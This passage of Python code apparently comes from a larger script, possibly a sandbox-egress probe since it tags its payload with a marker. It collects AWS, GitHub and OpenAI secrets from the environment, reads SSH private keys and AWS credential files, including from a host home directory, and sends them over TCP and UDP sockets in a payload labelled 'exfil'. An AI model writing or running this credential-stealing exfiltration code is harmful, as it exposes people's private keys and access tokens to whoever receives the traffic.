secrets = []
for n in ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "OPENAI_API_KEY"]:
    if n in os.environ:
        secrets.append(os.environ[n])
paths = [os.path.expanduser("~/" + rel) for rel in [".ssh/id_rsa", ".aws/credentials"]]
if "host_home" in A:
    paths.append(os.path.join(A["host_home"], ".ssh/id_rsa"))
for path in paths:
    try:
        secrets.append(read_head(path).strip())
    except OSError:
        pass
PAYLOAD = ("exfil " + A["marker"] + " " + " ".join(secrets)).encode()
def send_stream(family, addr):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(addr)
        s.sendall(PAYLOAD)
    finally:
        s.close()
def udp_exchange(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.sendto(PAYLOAD, addr)
        s.recv(512)
    finally:
        s.close()
